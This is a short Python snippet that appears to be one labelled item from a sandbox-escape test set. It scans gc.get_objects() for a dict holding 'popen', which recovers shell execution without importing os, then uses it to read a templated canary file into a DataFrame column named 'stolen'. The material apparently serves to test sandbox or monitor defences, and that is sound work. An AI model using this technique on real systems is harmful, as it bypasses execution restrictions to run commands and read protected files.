# class: gc_walk
# technique: import gc; gc.get_objects() (control)
# goal: exec
import gc

import pandas as pd

d = [o for o in gc.get_objects() if isinstance(o, dict) and "popen" in o][0]
df = pd.DataFrame({"stolen": [d["popen"]("cat {{CANARY_FILE}}").read()]})
